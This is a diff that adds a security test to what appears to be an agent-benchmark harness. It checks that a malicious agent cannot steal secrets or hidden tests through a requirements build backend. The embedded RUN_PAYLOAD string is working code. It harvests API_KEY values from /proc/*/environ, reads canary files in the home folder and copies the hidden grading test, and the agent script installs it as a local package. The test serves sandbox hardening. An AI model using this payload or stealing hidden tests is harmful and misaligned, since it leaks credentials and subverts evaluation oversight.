@@ -9,6 +9,7 @@ and nothing it wrote may reach a place the harness reads later.
 
 from __future__ import annotations
 
+import json
 import os
 import secrets
 import shutil
@@ -174,3 +175,88 @@ def test_built_environment_is_the_harness_and_read_only_to_later_sandboxes(
     assert owners == {os.getuid()}
     writable = [p for p in folder.rglob("*") if not p.is_symlink() and p.stat().st_mode & 0o022]
     assert writable == []
+
+
+# Through `run coding`: the agent itself writes the attack at checkpoint 1 (a relative path,
+# which is what resolves in the grading build, whose working folder is the snapshot), then at
+# checkpoint 2 looks for what the build left it: the loot, a copy of checkpoint 2's hidden test.
+RUN_PAYLOAD = '''
+import glob, os, shutil
+found = []
+
+def attempt(label, fn):
+    try:
+        found.append(f"LOOT-{label}={fn()}")
+    except Exception as exc:
+        found.append(f"LOOT-{label}!{type(exc).__name__}")
+
+def environs():
+    hits = []
+    for path in glob.glob("/proc/*/environ"):
+        try:
+            data = open(path, "rb").read()
+        except OSError:
+            continue
+        hits += [v.decode(errors="replace") for v in data.split(b"\\0") if b"API_KEY=" in v]
+    return "|".join(hits)
+
+def canaries():
+    return "|".join(open(os.path.join(HOME, n)).read() for n in os.listdir(HOME)
+                    if n.startswith(".benchwright-canary-"))
+
+attempt("secret", canaries)
+attempt("root", lambda: "|".join(sorted(os.listdir(HOME))))
+attempt("environ", environs)
+attempt("hidden", lambda: open(HIDDEN).read())
+LOOT = "\\n".join(found)
+for sink in [os.getcwd(), OUTSIDE, *glob.glob(RUN + "/**/", recursive=True)]:
+    try:
+        with open(os.path.join(sink, "loot.txt"), "w") as handle:
+            handle.write(LOOT)
+    except OSError:
+        pass
+try:
+    shutil.copy(HIDDEN, "stolen_test_checkpoint_2.py")
+except OSError:
+    pass
+'''
+
+
+def test_requirement_build_backend_finds_nothing_through_run_coding(
+    scene: Scene, tmp_path: Path
+) -> None:
+    from tests.security.run_probes import SOLVE_1, quick_problem, records
+
+    problems = tmp_path / "problems"
+    problem = quick_problem(problems, checkpoints=2)
+    with (problem / "tests" / "test_checkpoint_2.py").open("a") as hidden:
+        hidden.write(f"# {scene.hidden}\n")
+    run = tmp_path / "run"
+    constants = (f"HOME = {str(Path.home())!r}\nOUTSIDE = {str(scene.outside)!r}\n"
+                 f"RUN = {str(run)!r}\n"
+                 f"HIDDEN = {str(problem / 'tests' / 'test_checkpoint_2.py')!r}\n")
+    attack = tmp_path / "attack"
+    write_evil_package(attack / "evil", constants + RUN_PAYLOAD)
+    # The script names no canary: the secret is found by listing $HOME, the key in /proc.
+    (attack / "agent.sh").write_text(
+        'if [ "$BENCHWRIGHT_CHECKPOINT" = checkpoint_1 ]; then\n'
+        f"  {SOLVE_1}  cp -r {attack / 'evil'} evil\n"
+        "  echo ./evil > requirements.txt\n"
+        "else\n"
+        "  cat loot.txt stolen_test_checkpoint_2.py 2>&1; grep -rs LOOT- . ; true\n"
+        "fi\n")
+    proc = run_cli("run", "coding", "--problems-dir", str(problems), "--out", str(run),
+                   "--no-metrics", "--json", "--agent", "command", "--agent-command",
+                   f"sh {attack / 'agent.sh'}", "--agent-mount", str(attack),
+                   env=scene.environ())
+    assert proc.returncode == 0, proc.stderr
+    first = records(run)[0]
+    assert first["passed"] is True, first
+    grading = json.loads((run / "quick" / "trial_1" / "checkpoint_1" / "grading.json")
+                         .read_text())
+    # The backend did run (inside the build's sandbox), so the attack was really tried.
+    assert _ran_the_backend(grading["grader"]["solution_env"]["packages"])
+    for leaked in (scene.secret, scene.key, scene.hidden, scene.secret_file.name):
+        assert leaked not in proc.stdout + proc.stderr
+    scene.assert_found_nothing(run)
+    assert not list(run.rglob("loot.txt")) and not list(run.rglob("stolen_*"))
